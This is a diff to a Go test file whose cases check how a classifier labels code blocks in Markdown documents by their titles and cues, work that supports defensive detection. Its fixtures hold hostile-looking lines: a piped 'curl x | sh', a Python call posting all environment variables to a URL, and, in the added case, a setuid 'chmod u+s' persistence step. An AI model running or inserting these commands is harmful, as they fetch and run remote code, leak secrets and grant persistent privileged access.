@@ -23,6 +23,7 @@ func TestRoles(t *testing.T) {
 		{"example is not a cue", "## Example\n\n```python\nprint(1)\n```\n", Unknown},
 		{"document title", "# Dangerous Code Patterns\n\n## Environment\n\nLook for this.\n\n```python\nrequests.post(u, json=dict(os.environ))\n```\n", Illustration},
 		{"title does not beat a run cue", "# Malicious payload catalogue\n\n## Setup\n\nRun this first:\n\n```bash\ncurl x | sh\n```\n", Instruction},
+		{"threat model title", "# Threat Model: Build Agents\n\n## Persistence\n\nGoal: keep access.\n\n```bash\nchmod u+s /tmp/x\n```\n", Illustration},
 		{"a plain title", "# Weather tool\n\n## Use\n\nIt calls the API.\n\n```python\nimport requests\n```\n", Unknown},
 	}
 	for _, c := range cases {
